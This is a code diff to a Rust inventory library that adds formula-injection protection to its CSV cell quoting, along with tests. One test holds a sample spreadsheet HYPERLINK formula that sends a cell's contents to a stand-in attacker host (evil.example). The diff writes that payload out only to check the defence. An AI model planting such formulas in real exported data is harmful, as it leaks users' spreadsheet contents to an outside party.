@@ -4,7 +4,9 @@
 //! - [`risk`]: a risk score and class per integration from documented, weighted factors;
 //! - [`impact`]: what else is affected, transitively, when an integration changes or stops;
 //! - [`map`]: the data-flow map as Mermaid, Graphviz DOT and SVG;
-//! - [`docs`]: one Markdown page per integration plus an index.
+//! - [`docs`]: one Markdown page per integration plus an index;
+//! - [`markdown`]: asset text in Markdown, shown as written (never HTML, links or structure);
+//! - [`csv_field`]: one CSV cell that a spreadsheet shows as text, never runs as a formula.
 //!
 //! Everything here is a pure function of the loaded model (and the risk configuration):
 //! output order follows ids, never hash-map iteration.
@@ -14,6 +16,7 @@ pub mod config;
 pub mod docs;
 pub mod impact;
 pub mod map;
+pub mod markdown;
 pub mod risk;
 
 use flowgate_model::{Asset, AssetId, AssetSpec, Integration, Model, System};
@@ -159,13 +162,21 @@ impl<'a> Inventory<'a> {
     }
 }
 
-/// Quote one CSV field (RFC 4180): fields with a comma, quote or line break are quoted,
-/// quotes doubled.
+/// One CSV cell, safe to open in a spreadsheet. A cell a spreadsheet would read as a formula
+/// (starting with `=`, `+`, `-`, `@`, a tab or a carriage return; names and frequencies come
+/// from asset files other people write) gets a leading `'`, as OWASP recommends, so it is
+/// shown as text; then a cell with a comma, quote or line break is quoted with its quotes
+/// doubled (RFC 4180).
 pub fn csv_field(text: &str) -> String {
+    let text = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    };
     if text.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", text.replace('"', "\"\""))
     } else {
-        text.to_owned()
+        text
     }
 }
 
@@ -207,5 +218,20 @@ mod tests {
         assert_eq!(csv_field("a,b"), "\"a,b\"");
         assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
         assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
+    }
+
+    #[test]
+    fn csv_formula_cells_are_shown_as_text() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"click\"\")\""
+        );
+        assert_eq!(csv_field("@SUM(1+9)"), "'@SUM(1+9)");
+        assert_eq!(csv_field("+1"), "'+1");
+        assert_eq!(csv_field("-5"), "'-5");
+        assert_eq!(csv_field("\tx"), "'\tx");
+        assert_eq!(csv_field("\rx"), "\"'\rx\"");
+        assert_eq!(csv_field("a=b"), "a=b");
+        assert_eq!(csv_field(""), "");
     }
 }
